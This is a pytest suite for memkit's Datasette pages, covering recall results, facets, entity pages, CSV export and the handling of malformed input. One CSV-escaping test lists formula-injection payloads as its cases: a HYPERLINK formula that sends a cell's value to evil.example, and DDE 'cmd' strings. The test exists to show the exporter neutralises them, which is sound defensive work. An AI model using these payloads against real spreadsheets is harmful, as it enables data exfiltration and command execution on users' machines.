"""memkit's pages in Datasette: what they show, their JSON, their links, and what they say to bad input."""

from __future__ import annotations

import asyncio
import csv
import json
import re
import shutil
import time
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from io import StringIO
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, quote, urlencode, urlsplit

import pytest
from datasettes import Browser, build_demo, build_private, datasette, nobody, raw, root

from memkit import MemoryDatabase
from memkit.frontends.datasette import recall_csv
from memkit.frontends.datasette.access import read
from memkit.storage.driver import sqlite3

QUESTION = "/demo/-/recall?q=who+planted+the+quince%3F"


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_demo(tmp_path_factory.mktemp("pages") / "demo.db")


@pytest.fixture
def reader(demo: Path) -> Browser:
    return root(datasette(demo))


class Page(HTMLParser):
    """What a page is made of: its links, the ids of its labels and fields, its headings, its scripts."""

    def __init__(self, text: str):
        super().__init__()
        self.links: list[str] = []
        self.labelled: set[str] = set()
        self.fields: list[str] = []
        self.sources: list[str] = []
        self.roles: list[str] = []
        self._in_label = False
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        if tag == "a" and found.get("href"):
            self.links.append(str(found["href"]))
        if found.get("role"):
            self.roles.append(str(found["role"]))
        if tag == "label":
            self._in_label = True
            self.labelled.add(found.get("for") or "")
        wanted = tag in ("input", "select", "textarea") and found.get("type") not in ("hidden", "submit")
        if wanted and not self._in_label:
            self.fields.append(found.get("id") or f"nameless {tag}")
        self.sources += [str(found[name]) for name in ("src", "action") if found.get(name)]
        if tag == "link":
            self.sources.append(str(found.get("href")))

    def handle_endtag(self, tag: str) -> None:
        if tag == "label":
            self._in_label = False


def everything(reader: Browser, demo: Path) -> Iterator[str]:
    """The address of one page of each kind."""
    with MemoryDatabase(demo, read_only=True) as memory:
        first = memory.recall("who planted the quince?", 1)[0].memory.id
        found = memory.tables.query("select min(id) as id, kind from documents group by kind")
        documents = [row["id"] for row in found if row["kind"] in ("note", "chat")]
    yield from ("/recall", "/recall?q=quince", QUESTION, QUESTION + "&compare=kira", QUESTION + "&budget=500")
    yield from ("/demo/-/entity/Rosa", "/demo/-/entity/Rosa?depth=2&nodes=150", f"/demo/-/memory/{first}")
    yield from (f"/demo/-/document/{id}?memory={first}" for id in documents)
    yield from ("/demo/-/graph", "/demo/-/graph?nodes=150", "/demo/-/graph?from=Alice&to=quince")
    yield from ("/demo/-/remember", "/demo/-/merge", f"/demo/-/correct/{first}", f"/demo/-/forget/{first}")


# ---------------------------------------------------------------------------------------------- every page


async def test_every_page_is_small_and_asks_nobody_else(reader: Browser, demo: Path) -> None:
    for path in everything(reader, demo):
        text = await reader.page(path)
        assert len(text.encode()) < 60_000, path
        assert [source for source in Page(text).sources if urlsplit(source).netloc] == [], path
        assert '<html lang="en">' in text


async def test_every_field_of_every_page_has_a_label(reader: Browser, demo: Path) -> None:
    for path in everything(reader, demo):
        page = Page(await reader.page(path))
        assert [field for field in page.fields if field not in page.labelled] == [], path


@pytest.mark.slow
async def test_no_link_of_any_page_is_dead(reader: Browser, demo: Path) -> None:
    seen: set[str] = set()
    for path in everything(reader, demo):
        for link in Page(await reader.page(path)).links:
            if link.startswith("/") and link not in seen and len(seen) < 150:
                seen.add(link)
                assert (await reader.get(link)).status_code in (200, 302), (path, link)
    assert len(seen) > 60


async def test_every_page_has_a_json_twin(reader: Browser, demo: Path) -> None:
    for path in everything(reader, demo):
        bare, _, query = path.partition("?")
        found = await reader.json(f"{bare}.json?{query}")
        assert found["ok"] is True
        assert [name for name in found if name.startswith("_")] == []


async def test_the_stylesheet_is_found_under_an_address_that_changes_with_it(reader: Browser) -> None:
    page = Page(await reader.page("/recall"))
    styles = [source for source in page.sources if "/-/memkit/" in source]
    assert len(styles) == 2
    for source in styles:
        assert "immutable" in (await nobody(reader.served).get(source)).headers["cache-control"]
    assert (await reader.get("/-/memkit/0/passwords.txt")).status_code == 404


# ---------------------------------------------------------------------------------------------- recall


async def test_the_page_answers_and_says_why(reader: Browser) -> None:
    text = await reader.page(QUESTION)
    assert "<mark>planted</mark> the <mark>quince</mark>" in text
    assert "status" in Page(text).roles
    for channel in ("words", "meaning", "connection"):
        assert re.search(rf'class="mk-badge ch-\w+">{channel} <b>\d+</b>', text)


async def test_the_demo_answers_its_own_questions(reader: Browser) -> None:
    lines = (Path(__file__).parent.parent / "samples" / "questions.jsonl").read_text("utf-8").splitlines()
    found = 0
    for line in lines:
        question = json.loads(line)
        answer = await reader.json("/demo/-/recall.json?" + urlencode({"q": question["text"], "k": 10}))
        ids = {hit["source_id"] for hit in answer["hits"]} | {
            f"{hit['source']}#{hit['section']}" for hit in answer["hits"]
        }
        ends = {wanted.rsplit("/", 1)[-1] for wanted in question["relevant"]}
        found += bool(ids & (set(question["relevant"]) | ends))
    assert found >= 0.85 * len(lines)


async def test_all_databases_are_asked_and_each_hit_says_where_it_is_from(demo: Path, tmp_path: Path) -> None:
    other = shutil.copy(demo, tmp_path / "second.db")
    served = datasette(demo, other)
    found = await root(served).json("/recall.json?q=quince&k=6")
    assert found["databases"] == ["demo", "second"]
    assert {hit["database"] for hit in found["hits"]} == {"demo", "second"}
    scores = [hit["score"] for hit in found["hits"]]
    assert scores == sorted(scores, reverse=True)
    assert [hit["place"] for hit in found["hits"]] == [1, 2, 3, 4, 5, 6]


async def test_what_one_database_answers_is_not_called_far_from_the_question(demo: Path, tmp_path: Path) -> None:
    with MemoryDatabase(tmp_path / "other.db") as other:
        for n in range(60):
            other.remember(f"Train number {n} is late.")
    found = await root(datasette(demo, tmp_path / "other.db")).json("/recall.json?q=who+planted+the+quince")
    assert (found["hits"][0]["database"], found["weak"], found["warnings"]) == ("demo", False, [])
    alone = await root(datasette(tmp_path / "other.db")).json("/recall.json?q=who+planted+the+quince")
    assert alone["warnings"] == ["Nothing that was found is close to the question."]


async def test_pages_follow_one_another_without_repeating(reader: Browser) -> None:
    first = await reader.json(QUESTION.replace("recall?", "recall.json?") + "&k=5")
    second = await reader.json(first["next_url"].replace("recall?", "recall.json?"))
    assert second["hits"][0]["place"] == 6
    assert not {hit["id"] for hit in first["hits"]} & {hit["id"] for hit in second["hits"]}


QUINCES = "/demo/-/recall.json?q=who+cares+for+the+quince&k=200"


async def narrowed(reader: Browser, *choices: str) -> tuple[Any, dict[tuple[str, str], int]]:
    """What is found with these choices, and the counts of all facets."""
    found = await reader.json(QUINCES + "".join("&" + urlencode({"has": one}) for one in choices))
    return found, {(f["name"], v["value"]): v["count"] for f in found["facets"] for v in f["values"]}


async def test_a_facet_counts_what_a_click_then_shows(reader: Browser) -> None:
    """Each count is the number of hits behind its link, and all of these have the value."""
    _, counts = await narrowed(reader)
    assert {name for name, _ in counts} == {"kind", "project", "speaker", "year"}
    for (name, value), count in counts.items():
        found, _ = await narrowed(reader, f"{name}:{value}")
        assert len(found["hits"]) == found["matching"] == count
        field = {"year": "happened_at"}.get(name, name)
        assert all(str(hit[field]).startswith(value) for hit in found["hits"])


async def test_choices_in_several_facets_narrow_and_in_one_facet_add(reader: Browser) -> None:
    _, counts = await narrowed(reader)
    kind, other = [value for name, value in counts if name == "kind"][:2]
    both, _ = await narrowed(reader, f"kind:{kind}", f"kind:{other}")
    assert both["matching"] == counts["kind", kind] + counts["kind", other]
    _, within = await narrowed(reader, f"kind:{kind}")
    assert within["kind", other] == counts["kind", other]
    year = next(value for name, value in within if name == "year")
    found, _ = await narrowed(reader, f"kind:{kind}", f"year:{year}")
    assert found["matching"] == within["year", year]


async def test_chosen_facets_stay_and_can_be_taken_away(reader: Browser) -> None:
    found, counts = await narrowed(reader, "kind:nosuchkind")
    assert found["hits"] == []
    assert counts["kind", "nosuchkind"] == 0
    page = await reader.page("/demo/-/recall?q=quince&has=kind:nosuchkind")
    assert "Nothing was found with these limits" in page
    assert "kind: nosuchkind ✕" in page
    assert '<a href="/demo/-/recall?q=quince" title' in page


async def test_facets_of_several_databases_add_up(demo: Path, tmp_path: Path) -> None:
    both = root(datasette(demo, shutil.copy(demo, tmp_path / "second.db")))
    one = await root(datasette(demo)).json("/recall.json?q=quince&k=200")
    two = await both.json("/recall.json?q=quince&k=200")
    single = {(f["name"], v["value"]): v["count"] for f in one["facets"] for v in f["values"]}
    assert {(f["name"], v["value"]): v["count"] for f in two["facets"] for v in f["values"]} == {
        name: 2 * count for name, count in single.items()
    }
    seen: list[tuple[str, str]] = []
    for page in (1, 2, 3):
        seen += [(h["database"], h["id"]) for h in (await both.json(f"/recall.json?q=quince&k=7&page={page}"))["hits"]]
    whole = [(h["database"], h["id"]) for h in (await both.json("/recall.json?q=quince&k=21"))["hits"]]
    assert seen == whole


async def test_facets_say_among_how_many_they_count(reader: Browser) -> None:
    found = await reader.json("/demo/-/recall.json?q=who+cares+for+the+quince&k=10")
    assert f"Counted among the best {found['counted']}." in await reader.page(
        "/demo/-/recall?q=who+cares+for+the+quince"
    )


async def test_a_speaker_is_found_however_far_down(reader: Browser, demo: Path) -> None:
    """Limited to a speaker, no memory of theirs is missing that would be found without the limit."""
    with MemoryDatabase(demo, read_only=True) as memory:
        found = [hit.memory for hit in memory.recall("quince", 1000) if hit.memory.speaker]
    speaker = found[-1].speaker
    theirs = [memory.id for memory in found if memory.speaker == speaker]
    asked = urlencode({"q": "quince", "speaker": speaker, "k": 200})
    hits = (await reader.json(f"/demo/-/recall.json?{asked}"))["hits"]
    assert [hit["id"] for hit in hits] == theirs[:200]


async def test_strategies_stand_side_by_side_with_their_differences(reader: Browser) -> None:
    found = await reader.json(QUESTION.replace("recall?", "recall.json?") + "&compare=slots")
    assert (found["strategy_name"], found["compared"]["strategy_name"]) == ("memkit", "slots")
    there = {hit["id"]: hit["place"] for hit in found["compared"]["hits"]}
    assert [hit["elsewhere"] for hit in found["hits"]] == [there.get(hit["id"]) for hit in found["hits"]]
    assert "only here" in await reader.page(QUESTION + "&compare=slots")


async def test_what_a_model_would_read_fits_its_budget(reader: Browser) -> None:
    from memkit.text.words import est_tokens

    for budget in (200, 1000):
        found = await reader.json(QUESTION.replace("recall?", "recall.json?") + f"&budget={budget}")
        assert "uince" in found["context"]
        assert est_tokens(found["context"]) <= budget
    assert (await reader.json("/demo/-/recall.json?q=quince"))["context"] is None


async def test_the_sql_of_a_recall_runs_and_finds_the_same(reader: Browser) -> None:
    page = Page(await reader.page(QUESTION))
    link = next(link for link in page.links if "sql=" in link)
    query = {name: values[0] for name, values in parse_qs(urlsplit(link).query).items()}
    path = urlsplit(link).path
    rows = await reader.json(f"{path}.json?" + urlencode({**query, "_shape": "objects"}))
    found = await reader.json(QUESTION.replace("recall?", "recall.json?"))
    assert [row["id"] for row in rows["rows"]] == [hit["id"] for hit in found["hits"]]


async def test_limits_and_times_are_told(reader: Browser) -> None:
    found = await reader.json(QUESTION.replace("recall?", "recall.json?") + "&since=2025-03-01&until=2025-04-01")
    assert all(hit["happened_at"].startswith("2025-03") for hit in found["hits"] if hit["happened_at"])
    assert {"understand", "fulltext", "graph"} <= set(found["ms"])
    assert found["left_out"]
    assert {c["state"] for c in found["channels"]} == {"ran"}


async def test_what_most_likely_answers_nothing_is_folded_away_and_said(reader: Browser) -> None:
    weak = "/demo/-/recall?q=What+is+the+capital+of+Mongolia%3F"
    page = await reader.get(weak)
    assert "Nothing here seems to answer this" in page.text
    assert '<details class="mk-nearest"><summary>' in page.text
    assert " open><summary>What is nearest" in (await reader.get(f"{weak}&page=2")).text
    found = (await reader.get(weak.replace("recall?", "recall.json?"))).json()
    assert (found["weak"], found["confidence"] < 0.02, len(found["hits"])) == (True, True, 10)
    sure = await reader.get(QUESTION)
    assert "mk-nearest" not in sure.text
    assert "confidence 0." in sure.text


async def test_nothing_found_is_a_page_too(reader: Browser) -> None:
    assert "Nothing was found with these limits" in await reader.page("/demo/-/recall?q=quince&kind=nosuchkind")


# ---------------------------------------------------------------------------------------------- names and memories


async def test_a_name_leads_to_everything_known_about_it(reader: Browser) -> None:
    found = await reader.json("/demo/-/entity/Jordan.json")
    assert found["name"] == "Jordan"
    assert found["relations"]
    assert found["relations"][0]["evidence"]
    assert found["mentioned"] > 5
    assert found["drawing"]["nodes"][0]["name"] == "Jordan"
    text = await reader.page("/demo/-/entity/Jordan")
    assert 'role="presentation"' in text
    assert (await reader.json(f"/demo/-/entity/{found['id']}.json"))["name"] == "Jordan"


async def test_an_unknown_name_gets_the_nearest_ones(reader: Browser) -> None:
    text = await reader.page("/demo/-/entity/Jordann", 404)
    assert "Jordan" in text
    assert 'role="alert"' in text
    assert await reader.page("/demo/-/entity/Jordan")
    assert '<a href="/demo/-/entity/Jordan">Jordan</a>' in text
    assert '<a href="/demo/-/entity/Jordan">Jordan</a>' in await reader.page("/demo/-/graph?from=Jordann&to=Rosa", 404)


async def test_relations_with_dates_stand_on_a_time_line(reader: Browser) -> None:
    found = await reader.json("/demo/-/entity/Theo.json")
    bars = found["timeline"]["bars"]
    assert bars
    assert all(0 <= bar["left"] <= 100 and bar["width"] > 0 for bar in bars)


async def test_the_first_page_shows_what_happened_last_once_for_each_document(tmp_path: Path) -> None:
    notes = tmp_path / "notes"
    notes.mkdir()
    for day in (1, 2):
        parts = "\n\n".join(f"## Part {n}\n\n" + f"Day {day} told of thing {n}. " * 60 for n in range(6))
        (notes / f"2025-03-0{day}.md").write_text(parts)
    with MemoryDatabase(tmp_path / "days.db", embed="none") as memory:
        memory.ingest(notes)
        memory.remember("Rosa came.", happened_at="2025-03-03")
        recent = memory.choices().recent
    assert [one.text[:9] for one in recent] == ["Rosa came", "## Part 0", "## Part 0"]
    assert [one.happened_at[:10] for one in recent] == ["2025-03-03", "2025-03-02", "2025-03-01"]


async def test_the_results_are_a_table_for_a_spreadsheet_too(reader: Browser) -> None:
    address = "q=who+planted+the+quince%3F&k=5&has=kind%3Apassage"
    found = (await reader.json(f"/demo/-/recall.json?{address}"))["hits"]
    response = await reader.get(f"/demo/-/recall.csv?{address}")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(StringIO(response.text)))
    assert [(row["id"], row["text"]) for row in rows] == [(hit["id"], hit["text"]) for hit in found]
    assert [row["place"] for row in rows] == list("12345")
    assert f'href="/demo/-/recall.csv?{address.replace("&", "&amp;")}">CSV</a>' in await reader.page(
        f"/demo/-/recall?{address}"
    )
    assert (await reader.get("/demo/-/recall.csv")).status_code == 400
    assert (await nobody(reader.served).get(f"/demo/-/recall.csv?{address}")).status_code == 403


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1)', "'=HYPERLINK"),
        ("+1+cmd|' /C calc'!A0", "'+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2"),
        ("- 2+3", "'- 2"),
        ("@SUM(1)", "'@SUM"),
        ("\t=1+1", "'\t=1"),
        ("- a list\n- of two", "- a list"),
        ("Rosa = Otto", "Rosa = Otto"),
        (-0.5, "-0.5"),
        (None, ""),
    ],
)
def test_a_spreadsheet_runs_no_text_of_a_memory(text: object, cell: str) -> None:
    for name in ("text", "title", "speaker", "source", "project"):
        body = recall_csv.table([{name: text}]).body
        row = next(iter(csv.DictReader(StringIO(body if isinstance(body, str) else body.decode()))))
        assert row[name].startswith(cell)


async def test_ids_in_the_result_of_a_query_lead_to_their_pages(reader: Browser) -> None:
    rows = await reader.page("/demo/recall?question=who+planted+the+quince%3F&k=3&options=")
    id = (await reader.json("/demo/-/recall.json?q=who+planted+the+quince%3F&k=3"))["hits"][0]["id"]
    assert f'<a href="/demo/-/memory/{id}">{id}</a>' in rows
    name = (await reader.json("/demo/-/entity/Rosa.json"))["id"]
    led = await reader.get(f"/demo/-/memory/{name}")
    assert (led.status_code, led.headers["location"]) == (302, f"/demo/-/entity/{name}")
    assert (await reader.get("/demo/-/memory/zzzzzzzzzz")).status_code == 404


async def test_a_low_confidence_is_said_in_words(reader: Browser) -> None:
    page = await reader.page("/demo/-/recall?q=do+I+know+anybody+who+speaks+Portuguese%3F")
    assert "perhaps none that answers this" in page
    assert "perhaps none" not in await reader.page(QUESTION)


async def test_a_period_in_doubt_is_drawn_otherwise_and_says_so(tmp_path: Path) -> None:
    with MemoryDatabase(tmp_path / "moves.db", embed="none") as memory:
        memory.remember("I live in Leeds.", happened_at="2023-01-10")
        memory.remember("We finally moved last week.", happened_at="2023-06-05")
    reader = root(datasette(tmp_path / "moves.db"))
    bars = (await reader.json("/moves/-/entity/user.json"))["timeline"]["bars"]
    assert [(bar["until"] or "now", bar["in_doubt"]) for bar in bars] == [("2023-06-05", False), ("now", True)]
    text = await reader.page("/moves/-/entity/user")
    drawn = re.findall(r'<i class="([^"]*)".*?</li>', text)
    assert [" q" in one for one in drawn] == [False, True]
    said = re.findall(r'<span class="mk-what">(.*?)</span></li>', text)
    assert ["in doubt" in one for one in said] == [False, True]


async def test_drawings_have_their_nodes_inside_and_say_what_is_missing(reader: Browser) -> None:
    for path in ("/demo/-/graph.json?nodes=30", "/demo/-/graph.json?nodes=150", "/demo/-/entity/Rosa.json?nodes=5"):
        drawn = (await reader.json(path))["drawing"]
        assert all(0 < node["x"] < drawn["width"] and 0 < node["y"] < drawn["height"] for node in drawn["nodes"])
    assert drawn["more"] > 0


async def test_the_way_between_two_names_has_its_words(reader: Browser) -> None:
    found = await reader.json("/demo/-/graph.json?from=Alice&to=Nightshade")
    assert found["path"]["found"]
    assert found["path"]["steps"][0]["quote"]
    lost = await reader.json("/demo/-/graph.json?from=Alice&to=nobodyatall", 404)
    assert "nobodyatall" in lost["error"]
    assert 'value="Alice"' in await reader.page("/demo/-/graph?from=Alice")


async def test_a_memory_stands_in_its_document(reader: Browser, demo: Path) -> None:
    with MemoryDatabase(demo, read_only=True) as memory:
        turn = next(hit.memory for hit in memory.recall("quince", 50) if hit.memory.kind == "turn")
    found = await reader.json(f"/demo/-/memory/{turn.id}.json")
    assert found["before"] or found["after"]
    assert found["text"] == turn.text
    assert found["alike"]
    assert turn.id not in {other["id"] for other in found["alike"]}
    assert f"/demo/memories/{turn.key}" in await reader.page(f"/demo/-/memory/{turn.id}")


async def test_names_in_a_memory_are_links(reader: Browser) -> None:
    found = (await reader.json("/demo/-/recall.json?q=Half+of+the+people+in+this+vault+I+have+from+Alice&k=1"))["hits"][
        0
    ]
    html = (await reader.json(f"/demo/-/memory/{found['id']}.json"))["html"]
    assert {"Otto", "Rosa"} <= set(re.findall(r'<a href="/demo/-/entity/\w+">([^<]+)</a>', html))
    assert "[[" not in html


# ---------------------------------------------------------------------------------------------- bad input

LONG = "x" * 60_000
BAD = [
    "k=0",
    "k=-3",
    "k=99999",
    "k=many",
    "k=1e3",
    "page=0",
    "page=99999999999999999999",
    "budget=-1",
    "budget=lots",
    "year=0x10",
    "year=99999",
    "strategy=nosuch",
    "strategy={",
    "strategy=%7B%22nosuch%22%3A1%7D",
    "compare=nosuch",
    "strategy=" + quote('{"graph": {"depth": "deep"}}'),
    "strategy=" + quote('{"fulltext": {"limit": -1}}'),
    "strategy=" + quote('{"vector": 7}'),
    "strategy=" + quote('{"graph": {"damping": 9}}'),
    "compare=" + quote('{"a":' + "[" * 3000),
    "since=never",
    "until=31.31.2025",
    "as_of=%F0%9F%92%A9",
    f"project={LONG}",
    f"q={LONG}",
    f"kind={LONG}",
    "&".join(f"kind={n}" for n in range(50)),
    f"strategy={LONG}",
]
GOOD = [
    "",
    "k=5&k=6",
    "q=quince&q=boat",
    "q=%FF%FE%00",
    "q=%00",
    "q=%ED%A0%80",
    "project=%FF",
    "q=" + "%22AND%20NEAR(" * 20,
    "q=*:col%20-%5E",
    "only=1",
    "unknown=1&q=quince",
    "q=%E5%8C%97%E4%BA%AC",
    "kind=&speaker=&year=&since=",
]


@pytest.mark.parametrize("query", BAD, ids=lambda query: query[:30])
async def test_a_parameter_that_makes_no_sense_is_a_sentence(reader: Browser, query: str) -> None:
    asked = query if query.startswith("q=") else f"q=quince&{query}"
    text = await reader.page(f"/demo/-/recall?{asked}", 400)
    assert 'role="alert"' in text
    assert len(text) < 60_000
    assert (await reader.json(f"/demo/-/recall.json?{asked}", 400))["error"]


@pytest.mark.parametrize("query", GOOD, ids=lambda query: query[:30])
async def test_any_text_is_a_question(reader: Browser, query: str) -> None:
    assert len(await reader.page(f"/demo/-/recall?{query}")) < 60_000
    assert (await reader.json(f"/recall.json?{query}"))["ok"]


@pytest.mark.parametrize(
    "path",
    [
        "/demo/-/entity/%FF",
        "/demo/-/entity/~FF~00",
        f"/demo/-/entity/{LONG}",
        "/demo/-/memory/nosuch",
        f"/demo/-/memory/{LONG}",
        "/nosuch/-/recall?q=x",
        f"/{LONG}/-/graph",
        "/demo/-/correct/nosuch",
        "/demo/-/graph?from=%FF&to=%00x",
    ],
    ids=lambda path: path[:30],
)
async def test_what_does_not_exist_is_not_found(reader: Browser, path: str) -> None:
    assert len(await reader.page(path, 404)) < 60_000


@pytest.mark.parametrize(
    "path", ["entity/Rosa?depth=9", "entity/Rosa?nodes=1000", "graph?nodes=0", "entity/Rosa?page=x"]
)
async def test_numbers_out_of_range_are_a_sentence(reader: Browser, path: str) -> None:
    assert "must be" in await reader.page(f"/demo/-/{path}", 400)


@pytest.mark.parametrize("query", [b"q=" + b"x" * 1_000_000, b"q=\xff\xfe", b"q=quince&kind=" + b"\xff" * 1_000_000])
async def test_a_megabyte_and_bytes_that_are_no_text_are_no_trouble(reader: Browser, query: bytes) -> None:
    status, body = await raw(reader, "/demo/-/recall", query)
    assert status in (200, 400)
    assert len(body) < 60_000


async def test_a_database_of_something_else_is_not_offered(demo: Path, tmp_path: Path) -> None:
    other = tmp_path / "other.db"
    conn = sqlite3.connect(other)
    conn.execute("create table memories (id text)")
    conn.commit()
    conn.close()
    reader = root(datasette(demo, other))
    assert (await reader.json("/recall.json?q=quince"))["databases"] == ["demo"]
    await reader.page("/other/-/recall?q=quince", 404)
    await reader.page("/other/-/entity/Rosa", 404)
    await reader.page("/other/memories?_recall=quince")


async def test_pages_are_read_while_somebody_writes(tmp_path: Path) -> None:
    path = build_private(tmp_path / "private.db")
    writer = sqlite3.connect(path, isolation_level=None)
    writer.execute("begin immediate")
    writer.execute("update memories set importance = 1")
    reader = root(datasette(path))
    assert (await reader.json("/private/-/recall.json?q=flagstone"))["hits"]
    writer.execute("rollback")
    writer.close()


async def test_a_database_that_is_deleted_while_it_is_served_fails_alone(demo: Path, tmp_path: Path) -> None:
    gone = Path(shutil.copy(demo, tmp_path / "gone.db"))
    reader = root(datasette(demo, gone))
    assert (await reader.json("/recall.json?q=quince"))["databases"] == ["demo", "gone"]
    for file in tmp_path.glob("gone.db*"):
        file.unlink()
    (tmp_path / "gone.db").write_bytes(b"this is no database, but something else of some length" * 50)
    for _ in range(8):  # each of Datasette's threads has a connection of its own
        assert (await reader.get("/gone/-/recall?q=boat")).status_code in (200, 403, 404, 503)
        assert any(hit["database"] == "demo" for hit in (await reader.json("/recall.json?q=boat"))["hits"])


async def test_an_immutable_database_is_recalled_from_and_not_written_to(demo: Path, tmp_path: Path) -> None:
    with MemoryDatabase(demo) as memory:
        memory.conn.execute("vacuum into ?", (str(tmp_path / "frozen.db"),))
    served = datasette(immutables=[str(tmp_path / "frozen.db")])
    reader = root(served)
    assert (await reader.json("/frozen/-/recall.json?q=who+planted+the+quince"))["hits"]
    assert "Remember something" not in await reader.page("/frozen/-/recall?q=quince")
    for form in ("remember", "merge", "save-question"):
        page = await reader.page(f"/frozen/-/{form}", 403)
        assert "frozen is served read-only, as a file that does not change: serve it without -i to change it." in page
    upkeep = await reader.page("/frozen/-/maintenance")
    assert "frozen is served read-only" in upkeep
    assert 'method="post"' not in upkeep[upkeep.index("<main") :]


async def test_a_file_that_the_server_may_not_write_to_has_no_forms(
    demo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    reader = root(datasette(demo))
    assert "Remember something" in await reader.page("/demo/-/recall")
    monkeypatch.setattr("os.access", lambda path, mode: not str(path).endswith("demo.db"))
    assert "Remember something" not in await reader.page("/demo/-/recall")
    assert "demo is read-only: this server may not write to its file." in await reader.page("/demo/-/remember", 403)


async def test_an_empty_database_says_so_and_how_it_is_filled(tmp_path: Path) -> None:
    MemoryDatabase(tmp_path / "fresh.db").close()
    reader = root(datasette(tmp_path / "fresh.db"))
    for asked in ("/recall", "/fresh/-/recall", "/fresh/-/recall?q=quince"):
        page = await reader.page(asked)
        assert "There is no memory here yet." in page
        assert "<code>memkit ingest fresh.db PATH</code>" in page
        assert "What the model would read" not in page
    assert "memkit ingest" not in await nobody(reader.served).page("/recall")
    with MemoryDatabase(tmp_path / "fresh.db") as memory:
        memory.remember("Rosa planted the quince.")
    page = await reader.page("/fresh/-/recall")
    assert "There is no memory here yet." not in page
    assert ">1 memory<" in page


async def test_commands_in_a_sentence_are_set_as_code(tmp_path: Path) -> None:
    MemoryDatabase(tmp_path / "fresh.db").close()
    page = await root(datasette(tmp_path / "fresh.db")).page("/fresh/-/entity/Nobody%3Cb%3E", 404)
    assert "<code>memkit extract</code> finds names" in page
    assert "Nobody<b>" not in page


async def test_pages_work_without_threads(demo: Path) -> None:
    reader = root(datasette(demo, settings={"num_sql_threads": 0}))
    assert (await reader.json("/recall.json?q=quince"))["hits"]
    assert "quince" in await reader.page("/demo/memories?_recall=quince")


async def test_a_kind_that_no_memory_has_is_said_on_the_page(reader: Browser) -> None:
    page = await reader.page("/demo/-/recall?q=quince&kind=epsiode&project=gardn")
    assert "No memory is of kind &#39;epsiode&#39;; there are:" in page
    assert "Did you mean &#39;garden&#39;?" in page


async def test_datasettes_own_search_finds_words_of_memories(reader: Browser) -> None:
    """Datasette finds the full-text index of the table, so its page has a search box that does what it says."""
    found = await reader.json("/demo/memories.json?_search=quince&_shape=objects&_size=1000")
    assert found["rows"]
    assert len(found["rows"]) < len((await reader.json("/demo/memories.json?_shape=objects&_size=1000"))["rows"])
    assert any("quince" in row["text"].lower() for row in found["rows"])
    assert 'name="_search"' in await reader.page("/demo/memories")


async def test_the_first_question_may_take_as_long_as_loading_takes_and_a_later_one_may_not(demo: Path) -> None:
    from memkit.frontends.datasette.access import read
    from memkit.retrieval.limits import TooSlow

    tries = []

    def slow(times: int) -> Callable[[MemoryDatabase], int]:
        def work(memory: MemoryDatabase) -> int:
            tries.append(times)
            if len(tries) <= times:
                raise TooSlow("This took more than 5 seconds and was stopped.")
            return len(memory)

        return work

    served = datasette(demo)
    with pytest.raises(TooSlow):
        await read(served, "demo", slow(9))
    assert len(tries) == 2
    tries.clear()
    assert await read(served, "demo", slow(1)) > 0
    tries.clear()
    with pytest.raises(TooSlow):
        await read(served, "demo", slow(1))
    assert len(tries) == 1


async def test_one_recall_runs_at_a_time_and_other_pages_of_datasette_go_on(tmp_path: Path) -> None:
    """Threads that all run Python take twice the processor time, and would hold every thread of Datasette."""
    with MemoryDatabase(tmp_path / "notes.db", embed="none") as memory:
        memory.remember("Rosa pruned the quince.")
    served = datasette(tmp_path / "notes.db")
    await served.invoke_startup()
    running: list[int] = []
    most: list[int] = []

    def work(memory: MemoryDatabase) -> None:
        running.append(1)
        most.append(len(running))
        time.sleep(0.02)
        running.pop()

    asked = asyncio.gather(*(read(served, "notes", work) for _ in range(5)))
    await asyncio.sleep(0.01)
    assert (await served.get_database("notes").execute("select 1")).first()[0] == 1
    assert not asked.done()
    await asked
    assert most == [1] * 5


async def test_an_empty_database_beside_others_is_not_told_of_all(demo: Path, tmp_path: Path) -> None:
    MemoryDatabase(tmp_path / "empty.db").close()
    both = root(datasette(demo, tmp_path / "empty.db"))
    assert (await both.json("/recall.json?q=quince"))["warnings"] == []


async def test_one_thing_of_a_graph_is_counted_in_the_singular(tmp_path: Path) -> None:
    with MemoryDatabase(tmp_path / "one.db", embed="none") as memory:
        memory.ingest([{"text": "Rosa planted the quince."}])
        memory.relate("Rosa", "planted", "the quince")
    page = await root(datasette(tmp_path / "one.db")).page("/one/-/graph")
    assert "1 relation, " in page
    assert " in 1 memory</p>" in page


async def test_rows_from_python_have_a_source_that_can_be_read(tmp_path: Path) -> None:
    with MemoryDatabase(tmp_path / "rows.db", embed="none") as memory:
        memory.ingest([{"text": "Rosa planted the quince."}])
        memory.ingest([{"text": "Otto felled it.", "session": "Otto"}])
    page = await root(datasette(tmp_path / "rows.db")).page("/rows/-/recall?q=quince")
    assert '<span class="mk-file">rows</span>' in page


async def test_a_name_that_two_databases_know_is_told_with_the_database(demo: Path, tmp_path: Path) -> None:
    with MemoryDatabase(tmp_path / "other.db", embed="none") as memory:
        memory.ingest([{"text": "Figs, please.", "speaker": "Rosa"}])
    page = await root(datasette(demo, tmp_path / "other.db")).page("/")
    assert ">Rosa (demo)</a>" in page
    assert ">Rosa (other)</a>" in page
    assert ">Rosa</a>" in await root(datasette(demo)).page("/")
